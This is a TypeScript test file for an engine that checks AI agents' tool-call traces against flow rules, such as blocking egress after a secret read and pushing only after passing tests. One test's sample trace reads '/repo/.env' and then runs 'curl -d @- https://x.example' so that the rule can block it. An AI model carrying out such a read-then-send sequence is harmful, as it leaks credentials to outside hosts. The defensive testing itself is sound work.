import { describe, expect, it } from 'vitest';
import { compilePipeline, replayTrace, type JsonObject, type TraceEvent } from '../../../engine/index.ts';
import { flowExamples } from '../../../web/demo/flowExamples.ts';

const T0 = Date.UTC(2026, 0, 1);
let n = 0;
/** A `tool.before_call` (or `after`) event `sec` seconds into the session. */
const call = (sec: number, payload: JsonObject, type = 'tool.before_call'): TraceEvent => ({ event_id: `e${++n}`, trace_id: 's', agent_id: 'a', type, ts: new Date(T0 + sec * 1000).toISOString(), payload });
const done = (sec: number, payload: JsonObject) => call(sec, payload, 'tool.after_call');

function decide(name: string, events: TraceEvent[]) {
  const doc = flowExamples().find((d) => d.name === name)!;
  const r = compilePipeline(doc);
  if (!r.ok) throw new Error(JSON.stringify(r.problems));
  expect(r.problems.filter((p) => p.severity === 'error')).toEqual([]);
  return replayTrace(r.compiled, events, { explain: false });
}
const letters = (steps: { outcome: string }[]) => steps.map((s) => s.outcome[0]).join('');

describe('flow rule examples (docs/flow-rules.md, the library’s examples)', () => {
  it('[F1][F7] no egress after a secret read', () => {
    const steps = decide('Flow: no egress after a secret read', [
      call(1, { tool: 'fetch', url: 'https://docs.example' }),
      call(2, { tool: 'read', file_path: '/repo/.env' }),
      call(3, { tool: 'shell', command: 'curl -d @- https://x.example' }),
    ]);
    expect(letters(steps)).toBe('ccb');
    expect(steps[2]!.reason).toBe('No network egress after a secret read — step 2 (tool.before_call read `/repo/.env`) came before');
  });

  it('[F1][F7] untrusted content: shell commands need approval once a fetch result came in', () => {
    expect(letters(decide('Flow: untrusted content needs approval', [call(1, { tool: 'shell', command: 'ls' }), done(2, { tool: 'fetch', url: 'https://x' }), call(3, { tool: 'shell', command: 'ls' })]))).toBe('cca');
  });

  it('[F2][F7] the same failing command three times in a row is stopped; a success in between resets', () => {
    const fail = (s: number, c: string) => done(s, { tool: 'shell', command: c, exit_code: 1 });
    const steps = decide('Flow: stop retrying a failing command', [
      fail(1, 'make'), fail(2, 'make'), done(3, { tool: 'shell', command: 'make', exit_code: 0 }), fail(4, 'make'), fail(5, 'make'), fail(6, 'make'),
      call(7, { tool: 'shell', command: 'ls' }), call(8, { tool: 'shell', command: 'make' }),
    ]);
    expect(letters(steps)).toBe('cccccccb');
    expect(steps[7]!.reason).toContain('steps 4, 5, 6');
  });

  it('[F7] at most 20 writes in any 5 minutes', () => {
    const writes = Array.from({ length: 21 }, (_, i) => call(i, { tool: 'write', file_path: `f${i}` }));
    expect(letters(decide('Flow: at most 20 writes in 5 minutes', [...writes, call(300, { tool: 'edit', file_path: 'x' })]))).toBe(`${'c'.repeat(20)}bc`);
  });

  it('[F7] git push only if a test succeeded since the last edit', () => {
    const push = (s: number) => call(s, { tool: 'shell', command: 'git push origin main' });
    const steps = decide('Flow: push only after green tests', [
      push(1), done(2, { tool: 'shell', command: 'npm test', exit_code: 0 }), push(3), call(4, { tool: 'edit', file_path: 'a.ts' }), push(5), done(6, { tool: 'shell', command: 'npm test', exit_code: 1 }), push(7),
    ]);
    expect(letters(steps)).toBe('bccc' + 'bcb');
    expect(steps[6]!.reason).toContain('since step 4 (tool.before_call edit `a.ts`)');
  });
});
